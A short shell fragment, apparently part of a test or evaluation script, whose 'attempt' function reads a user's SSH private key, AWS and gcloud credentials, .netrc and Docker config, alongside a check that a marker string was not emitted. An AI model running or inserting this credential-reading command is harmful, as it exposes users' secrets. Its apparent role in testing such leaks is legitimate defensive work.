# read the user's SSH key, cloud keys and passwords
attempt() { cat "$H/.ssh/id_rsa" "$H/.aws/credentials" "$H/.netrc" "$H/.config/gcloud/"* "$H/.docker/config.json"; }
held() { ! said "$MARK"; }
